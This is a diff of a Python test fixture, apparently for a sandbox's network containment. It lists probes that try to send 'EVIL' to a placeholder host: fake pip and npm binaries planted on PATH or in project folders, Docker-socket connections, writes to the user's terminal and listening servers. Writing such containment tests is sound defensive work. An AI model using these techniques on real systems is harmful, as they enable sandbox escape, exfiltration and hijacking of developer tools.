@@ -26,12 +26,6 @@ NETWORK = {
     "perl": "#!/bin/sh\nperl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"@host@:@port@\"); print $s \"EVIL\"'",
     "node": "#!/bin/sh\nnode -e 'require(\"net\").connect(@port@, \"@host@\").end(\"EVIL\")'",
     "a shell for them": "s = socket.socket(); s.connect(('@host@', @port@)); os.dup2(s.fileno(), 1); subprocess.run(['echo', 'EVIL'])",
-    "a tool's name in a virtual environment": "os.makedirs('.venv/bin', exist_ok=True); os.symlink(sys.executable, '.venv/bin/python3')\n"
-    "open('.venv/bin/pip', 'w').write('#!@proj@/.venv/bin/python3 -IS\\nimport socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")\\n')\n"
-    "os.chmod('.venv/bin/pip', 0o755); subprocess.run(['.venv/bin/pip', 'install', '-r', 'requirements.txt'])",
-    "a tool's name in node_modules": "os.makedirs('node_modules/.bin', exist_ok=True)\n"
-    "open('node_modules/.bin/npm', 'w').write('#!/usr/bin/python3\\nimport socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")\\n')\n"
-    "os.chmod('node_modules/.bin/npm', 0o755); subprocess.run(['node_modules/.bin/npm', 'ci'])",
     "a tool's name on another PATH": "os.makedirs('x'); open('x/npm', 'w').write('#!/usr/bin/python3\\nimport socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")\\n')\n"
     "os.chmod('x/npm', 0o755); os.environ['PATH'] = 'x:' + os.environ['PATH']; subprocess.run(['npm', 'ci'])",
     "datagram: sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'EVIL', ('@host@', @udp@))",
@@ -51,8 +45,8 @@ NETWORK = {
     "listening in version 6": "s = socket.create_server(('::', @free@), family=socket.AF_INET6, dualstack_ipv6=True); @served@",
     "listening at a port of the kernel's": "s = socket.create_server(('0.0.0.0', 0)); @served@",
     "listening without a bind": "s = socket.socket(); s.listen(); @served@",
-    "listening to datagrams": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 0)); @served@",
-    "listening by http.server": "#!/bin/sh\npython3 -m http.server --bind 0.0.0.0 @free@ & sleep 0.8; @python@ -IS -c 'import socket; s = socket.create_connection((\"@host@\", @free@), 1); open(\"ran\", \"w\").write(\"reached\")'; kill %1",
+    "listening by http.server": "#!/bin/sh\npython3 -m http.server --bind 0.0.0.0 @free@ & p=$!\n"
+    "while sleep 0.1 && kill -0 $p; do @python@ -IS -c 'import socket; socket.create_connection((\"@host@\", @free@), 1)' 2> x && echo reached > ran && break; done; kill $p",
     "a service": "s = socket.socket(socket.AF_UNIX); s.connect('@service@'); s.send(b'EVIL')",
     "a service by a link": "os.symlink('@service@', 'x'); s = socket.socket(socket.AF_UNIX); s.connect('x'); s.send(b'EVIL')",
     "a service by its folder": "os.chdir('@root@/outside'); s = socket.socket(socket.AF_UNIX); s.connect('docker.sock'); s.send(b'EVIL')",
@@ -72,5 +66,12 @@ NETWORK = {
     "the person's terminal": "os.write(os.open('@tty@', os.O_WRONLY | os.O_NOCTTY), b'EVIL')",
     "the person's terminal by echo": "#!/bin/sh\necho EVIL > @tty@",
     "the person's terminal for reading": "os.write(os.open('@tty@', os.O_RDWR | os.O_NOCTTY), b'EVIL')",
+    "listening twice": "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); t = socket.socket(); t.listen(); s = t; @served@",
+    "listening after connecting": "l = socket.create_server(('127.0.0.1', 0)); s = socket.socket(); s.connect(l.getsockname())\nlibc.connect(s.fileno(), struct.pack('H', 0) + bytes(14), 16); s.listen(); @served@",
+    "listening in version 6 at the kernel's": "s = socket.create_server(('::', 0), family=socket.AF_INET6, dualstack_ipv6=True); @served@",
+    "listening in place of another": "import threading\ns = socket.socket(); u = socket.socket(socket.AF_UNIX); u.bind('x'); fd = os.dup(u.fileno()); over = False\n"
+    "def swap():\n    while not over: os.dup2(s.fileno(), fd); os.dup2(u.fileno(), fd)\nt = threading.Thread(target=swap); t.start()\n"
+    "for _ in range(200): libc.listen(fd, 5)\nover = True; t.join()\nif not s.getsockopt(1, 30): s.listen()\n@served@",
+    "listening by node": "#!/bin/sh\nnode -e 'const s = require(\"net\").createServer(c => { require(\"fs\").writeFileSync(\"ran\", \"reached\"); process.exit() }); s.listen(0, \"0.0.0.0\", () => require(\"fs\").writeFileSync(\"port\", \"tcp \" + s.address().port)); setTimeout(() => process.exit(), 900)'",
 }  # fmt: skip
 OPEN: dict[str, str] = {}
